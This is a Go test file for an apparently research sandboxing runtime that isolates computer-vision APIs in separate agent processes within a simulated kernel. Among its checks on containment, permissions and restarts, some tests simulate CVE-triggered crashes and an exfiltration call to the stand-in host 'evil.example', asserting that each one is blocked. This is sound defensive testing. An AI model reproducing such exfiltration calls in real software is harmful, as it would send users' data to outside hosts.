package core_test

import (
	"bytes"
	"errors"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/ipc"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/trace"
)

// setup builds kernel + registry + categorization + runtime.
func setup(t *testing.T, cfg core.Config) (*kernel.Kernel, *core.Runtime) {
	t.Helper()
	k := kernel.New()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	rt, err := core.New(k, reg, cat, cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(rt.Close)
	return k, rt
}

// writeImage stores a deterministic test image at path.
func writeImage(k *kernel.Kernel, path string, rows, cols int) []byte {
	data := make([]byte, rows*cols)
	for i := range data {
		data[i] = byte(i * 7 % 251)
	}
	enc, _ := simcv.EncodeImage(rows, cols, 1, data)
	k.FS.WriteFile(path, enc)
	return data
}

func TestRuntimeSpawnsFiveProcesses(t *testing.T) {
	k, rt := setup(t, core.Default())
	_ = rt
	// 1 host + 4 agents (§6: "FreePart executes with five processes").
	if got := len(k.Processes()); got != 5 {
		t.Fatalf("%d processes, want 5", got)
	}
	for _, ty := range framework.ConcreteTypes() {
		if _, ok := rt.AgentForType(ty); !ok {
			t.Errorf("no agent for %s", ty)
		}
	}
}

func TestPipelineEndToEnd(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 8, 8)

	imgs, _, err := rt.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		t.Fatal(err)
	}
	if len(imgs) != 1 {
		t.Fatalf("imread handles = %v", imgs)
	}
	if _, region, ok := rt.Locate(imgs[0]); !ok || region.Size != 64 {
		t.Fatalf("imread result: region %+v (found %v), want 64 bytes", region, ok)
	}
	blurred, _, err := rt.Call("cv.GaussianBlur", imgs[0].Value())
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.imshow", framework.Str("w"), blurred[0].Value()); err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.imwrite", framework.Str("/out.img"), blurred[0].Value()); err != nil {
		t.Fatal(err)
	}
	if !k.FS.Exists("/out.img") {
		t.Fatal("pipeline output missing")
	}
	if k.GUI.Windows() != 1 {
		t.Fatal("imshow should have painted")
	}
	// State machine ended in storing.
	if rt.State() != framework.TypeStoring {
		t.Fatalf("state = %v", rt.State())
	}
}

func TestProtectedMatchesDirect(t *testing.T) {
	// The same pipeline produces byte-identical output under the runtime
	// and the unprotected Direct runner (correctness of interposition).
	run := func(ex core.Caller, k *kernel.Kernel) []byte {
		imgs, _, err := ex.Call("cv.imread", framework.Str("/in.img"))
		if err != nil {
			t.Fatal(err)
		}
		b, _, err := ex.Call("cv.GaussianBlur", imgs[0].Value())
		if err != nil {
			t.Fatal(err)
		}
		e, _, err := ex.Call("cv.erode", b[0].Value())
		if err != nil {
			t.Fatal(err)
		}
		out, err := ex.Fetch(e[0])
		if err != nil {
			t.Fatal(err)
		}
		return out
	}

	k1, rt := setup(t, core.Default())
	writeImage(k1, "/in.img", 8, 8)
	protected := run(rt, k1)

	k2 := kernel.New()
	writeImage(k2, "/in.img", 8, 8)
	direct := core.NewDirect(k2, all.Registry())
	baseline := run(direct, k2)

	if !bytes.Equal(protected, baseline) {
		t.Fatal("protected output differs from direct execution")
	}
}

func TestLDCMovesRefsNotData(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 16, 16)
	imgs, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))
	// Loading-agent object consumed by processing agent: one lazy copy.
	if _, _, err := rt.Call("cv.equalizeHist", imgs[0].Value()); err != nil {
		t.Fatal(err)
	}
	s := rt.Metrics.Snapshot()
	if s.LazyCopies == 0 {
		t.Fatalf("no lazy copies recorded: %v", s)
	}
	if s.LazyFraction() < 0.5 {
		t.Fatalf("lazy fraction = %v", s.LazyFraction())
	}
}

func TestNoLDCShipsThroughHost(t *testing.T) {
	cfg := core.Default()
	cfg.LazyDataCopy = false
	k, rt := setup(t, cfg)
	writeImage(k, "/in.img", 16, 16)
	imgs, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))
	if !imgs[0].Materialized() {
		t.Fatal("without LDC results must materialize in the host")
	}
	if _, _, err := rt.Call("cv.equalizeHist", imgs[0].Value()); err != nil {
		t.Fatal(err)
	}
	s := rt.Metrics.Snapshot()
	if s.LazyCopies != 0 || s.EagerCopies < 2 {
		t.Fatalf("copies = %+v", s)
	}
}

func TestLDCMovesFewerBytes(t *testing.T) {
	pipeline := func(ldc bool) uint64 {
		cfg := core.Default()
		cfg.LazyDataCopy = ldc
		k, rt := setup(t, cfg)
		writeImage(k, "/in.img", 32, 32)
		imgs, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))
		cur := imgs[0]
		for i := 0; i < 5; i++ {
			out, _, err := rt.Call("cv.GaussianBlur", cur.Value())
			if err != nil {
				t.Fatal(err)
			}
			cur = out[0]
		}
		return rt.Metrics.Snapshot().BytesMoved
	}
	with, without := pipeline(true), pipeline(false)
	if with >= without {
		t.Fatalf("LDC bytes (%d) should be < non-LDC bytes (%d)", with, without)
	}
}

func TestTemporalPermissions(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 8, 8)
	imgs, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))

	// Locate the loaded object inside the loading agent.
	space, region, ok := rt.Locate(imgs[0])
	if !ok {
		t.Fatal("cannot locate loaded object")
	}

	// Before the state change the object is writable.
	if perm, mapped := space.PermAt(region.Base); !mapped || !perm.CanWrite() {
		t.Fatalf("pre-transition perm = %v (mapped=%v)", perm, mapped)
	}
	// A processing call transitions Loading -> Processing; the loaded
	// object must become read-only (Fig. 3).
	if _, _, err := rt.Call("cv.GaussianBlur", imgs[0].Value()); err != nil {
		t.Fatal(err)
	}
	perm, _ := space.PermAt(region.Base)
	if perm.CanWrite() {
		t.Fatal("loading-state object should be read-only after transition")
	}
	if rt.Metrics.Snapshot().PermFlips == 0 {
		t.Fatal("no permission flips recorded")
	}
	// Reading still works (the processing agent lazily copies from it).
	if _, err := rt.Fetch(imgs[0]); err != nil {
		t.Fatalf("read-only object should stay readable: %v", err)
	}
}

func TestCriticalDataProtection(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 8, 8)

	// The app allocates critical data (the OMR template) in the host
	// space during initialization and registers it.
	template, err := rt.Host.Space().Alloc(256)
	if err != nil {
		t.Fatal(err)
	}
	if err := rt.Host.Space().Store(template.Base, []byte("coords")); err != nil {
		t.Fatal(err)
	}
	rt.RegisterCritical(template)

	// First framework call moves the state machine off initialization;
	// the template becomes read-only.
	if _, _, err := rt.Call("cv.imread", framework.Str("/in.img")); err != nil {
		t.Fatal(err)
	}
	if err := rt.Host.Space().Store(template.Base, []byte("corrupt")); err == nil {
		t.Fatal("critical data should be read-only after initialization")
	}
	got, _ := rt.Host.Space().Load(template.Base, 6)
	if string(got) != "coords" {
		t.Fatal("critical data changed")
	}
}

func TestExploitContainedToLoadingAgent(t *testing.T) {
	k, rt := setup(t, core.Default())
	k.FS.WriteFile("/evil.img", framework.Trigger("CVE-2017-12597", nil))
	_, _, err := rt.Call("cv.imread", framework.Str("/evil.img"))
	if err == nil {
		t.Fatal("exploit call should error")
	}
	if !rt.Host.Alive() {
		t.Fatal("host must survive")
	}
	for _, ty := range []framework.APIType{framework.TypeProcessing, framework.TypeVisualizing, framework.TypeStoring} {
		p, _ := rt.AgentForType(ty)
		if !p.Alive() {
			t.Fatalf("%s agent should be unaffected", ty)
		}
	}
	// Restart policy already revived the loading agent.
	lp, _ := rt.AgentForType(framework.TypeLoading)
	if !lp.Alive() {
		t.Fatal("loading agent should have been restarted")
	}
	if rt.Metrics.Snapshot().Restarts != 1 {
		t.Fatalf("restarts = %d", rt.Metrics.Snapshot().Restarts)
	}
	// Normal operation resumes.
	writeImage(k, "/ok.img", 4, 4)
	if _, _, err := rt.Call("cv.imread", framework.Str("/ok.img")); err != nil {
		t.Fatalf("post-restart imread: %v", err)
	}
}

func TestNoRestartPolicyLeavesAgentDead(t *testing.T) {
	cfg := core.Default()
	cfg.Restart = false
	k, rt := setup(t, cfg)
	k.FS.WriteFile("/evil.img", framework.Trigger("CVE-2017-14136", nil))
	_, _, _ = rt.Call("cv.imread", framework.Str("/evil.img"))
	lp, _ := rt.AgentForType(framework.TypeLoading)
	if lp.Alive() {
		t.Fatal("agent should stay dead without restart policy")
	}
	// Subsequent loads fail, but the host and other agents live on
	// (§5.4.1: the drone keeps flying).
	writeImage(k, "/ok.img", 4, 4)
	if _, _, err := rt.Call("cv.imread", framework.Str("/ok.img")); !errors.Is(err, ipc.ErrAgentCrashed) {
		t.Fatalf("err = %v", err)
	}
	if !rt.Host.Alive() {
		t.Fatal("host must survive")
	}
}

func TestSyscallLockdownBlocksExfiltration(t *testing.T) {
	cfg := core.Default()
	cfg.AppAPIs = []string{"cv.imread", "cv.GaussianBlur", "cv.imshow", "cv.imwrite"}
	k, rt := setup(t, cfg)
	// Simulate a compromised processing agent attempting to exfiltrate.
	dp, _ := rt.AgentForType(framework.TypeProcessing)
	err := k.NetSend(dp, "evil.example", []byte("stolen"))
	if !errors.Is(err, kernel.ErrSyscallDenied) {
		t.Fatalf("exfiltration should be denied, got %v", err)
	}
	if dp.Alive() {
		t.Fatal("violating agent should be killed")
	}
	if len(k.Net.SentTo("evil.example")) != 0 {
		t.Fatal("no bytes must leave")
	}
}

func TestVisualizingAgentInitThenLockdown(t *testing.T) {
	cfg := core.Default()
	cfg.AppAPIs = []string{"cv.imshow"}
	k, rt := setup(t, cfg)
	viz, _ := rt.AgentForType(framework.TypeVisualizing)
	// The GUI socket was connected during init (allowed pre-lockdown).
	if got := viz.SyscallCounts()[kernel.SysConnect]; got != 1 {
		t.Fatalf("connect count = %d", got)
	}
	// Post-lockdown connect attempts die.
	if err := k.NetConnect(viz, "evil.example"); !errors.Is(err, kernel.ErrSyscallDenied) {
		t.Fatalf("post-lockdown connect = %v", err)
	}
}

func TestNeutralAPIFollowsState(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 8, 8)
	imgs, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))
	// cvtColor right after a load runs in the loading agent (§4.2.2), so
	// its result object lives in the loading agent's process.
	loading, _ := rt.AgentForType(framework.TypeLoading)
	gray, _, err := rt.Call("cv.cvtColor", imgs[0].Value())
	if err != nil {
		t.Fatal(err)
	}
	if gray[0].OwnerPID() != uint32(loading.PID()) {
		t.Fatalf("cvtColor after imread ran in pid %d, want loading agent %d", gray[0].OwnerPID(), loading.PID())
	}
	// After a processing call, cvtColor follows to the processing agent.
	blurred, _, _ := rt.Call("cv.GaussianBlur", gray[0].Value())
	dp, _ := rt.AgentForType(framework.TypeProcessing)
	regray, _, err := rt.Call("cv.cvtColor", blurred[0].Value(), framework.Str("GRAY2BGR"))
	if err != nil {
		t.Fatal(err)
	}
	if regray[0].OwnerPID() != uint32(dp.PID()) {
		t.Fatalf("cvtColor after blur ran in pid %d, want processing agent %d", regray[0].OwnerPID(), dp.PID())
	}
}

func TestCheckpointRestoreAcrossRestart(t *testing.T) {
	k, rt := setup(t, core.Default())
	// A stateful Kalman filter accumulates state in the processing agent.
	st, _, err := rt.Call("torch.tensor", framework.Int64(4), framework.Float64(0))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.KalmanFilter.correct", st[0].Value(), framework.Float64(10), framework.Float64(10)); err != nil {
		t.Fatal(err)
	}
	// Crash the processing agent (fault injection).
	dp, _ := rt.AgentForType(framework.TypeProcessing)
	k.Crash(dp, "injected fault")
	// The next call fails but the supervisor auto-restarts the agent.
	if _, _, err = rt.Call("cv.KalmanFilter.predict", st[0].Value()); err == nil {
		t.Fatal("call into crashed agent should fail")
	}
	if err := rt.RestartDead(); err != nil {
		t.Fatal(err)
	}
	if !dp.Alive() {
		t.Fatal("processing agent should be alive again")
	}
	// The checkpointed state tensor is restored and the old ref resolves
	// through the remap: correct(10,10) on zeros gave x=5, vx=5, so
	// predict now returns 10.
	_, plain, err := rt.Call("cv.KalmanFilter.predict", st[0].Value())
	if err != nil {
		t.Fatalf("predict after restore: %v", err)
	}
	if len(plain) != 2 || plain[0].Float != 10 {
		t.Fatalf("predict after restore = %v, want x=10", plain)
	}
}

func TestCustomPartitions(t *testing.T) {
	cfg := core.Default()
	cfg.Partitions = 8
	cfg.PartitionOf = func(api *framework.API) int {
		// Spread APIs over 8 partitions by name hash.
		h := 0
		for _, c := range api.Name {
			h = h*31 + int(c)
		}
		if h < 0 {
			h = -h
		}
		return h % 8
	}
	k, rt := setup(t, cfg)
	writeImage(k, "/in.img", 8, 8)
	if got := len(k.Processes()); got != 9 { // host + 8
		t.Fatalf("%d processes, want 9", got)
	}
	imgs, _, err := rt.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := rt.Call("cv.GaussianBlur", imgs[0].Value()); err != nil {
		t.Fatal(err)
	}
}

func TestUnknownAPI(t *testing.T) {
	_, rt := setup(t, core.Default())
	if _, _, err := rt.Call("cv.nonexistent"); err == nil {
		t.Fatal("unknown API should fail")
	}
}

func TestScalarResultsPassThrough(t *testing.T) {
	k, rt := setup(t, core.Default())
	writeImage(k, "/in.img", 8, 8)
	imgs, _, _ := rt.Call("cv.imread", framework.Str("/in.img"))
	_, plain, err := rt.Call("cv.countNonZero", imgs[0].Value())
	if err != nil {
		t.Fatal(err)
	}
	if len(plain) != 1 || plain[0].Kind != framework.ValInt {
		t.Fatalf("plain = %v", plain)
	}
}

func TestHostObjectsDeepCopyToAgents(t *testing.T) {
	k, rt := setup(t, core.Default())
	_ = k
	// App-created data in the host space passes by deep copy; mutating the
	// agent-side copy cannot touch the host original (§4.3).
	hid, hm, err := rt.HostCtx().NewMatFromBytes(2, 2, 1, []byte{1, 2, 3, 4})
	if err != nil {
		t.Fatal(err)
	}
	out, _, err := rt.Call("cv.bitwise_not", framework.Obj(hid))
	if err != nil {
		t.Fatal(err)
	}
	inverted, _ := rt.Fetch(out[0])
	if inverted[0] != 254 {
		t.Fatalf("inverted = %v", inverted)
	}
	orig, _ := hm.At(0, 0, 0)
	if orig != 1 {
		t.Fatal("host original must be untouched")
	}
}

func TestDirectRunnerBasics(t *testing.T) {
	k := kernel.New()
	writeImage(k, "/in.img", 8, 8)
	d := core.NewDirect(k, all.Registry())
	imgs, _, err := d.Call("cv.imread", framework.Str("/in.img"))
	if err != nil {
		t.Fatal(err)
	}
	if len(imgs) != 1 || !imgs[0].Materialized() {
		t.Fatalf("direct handles = %v", imgs)
	}
	payload, err := d.Fetch(imgs[0])
	if err != nil || len(payload) != 64 {
		t.Fatalf("fetch = %d bytes, %v", len(payload), err)
	}
	if got := len(k.Processes()); got != 1 {
		t.Fatalf("direct runner spawned %d processes, want 1", got)
	}
}

func TestHybridCategorizationDrivenRuntime(t *testing.T) {
	// The runtime works identically when fed a trace-driven categorization
	// instead of the static one.
	k := kernel.New()
	reg := all.Registry()
	runner := trace.NewRunner(reg)
	trace.RunSuite(k, runner)
	cat := analysis.New(reg, runner.Recorder).Categorize()

	k2 := kernel.New()
	rt, err := core.New(k2, reg, cat, core.Default())
	if err != nil {
		t.Fatal(err)
	}
	defer rt.Close()
	writeImage(k2, "/in.img", 8, 8)
	if _, _, err := rt.Call("cv.imread", framework.Str("/in.img")); err != nil {
		t.Fatal(err)
	}
}
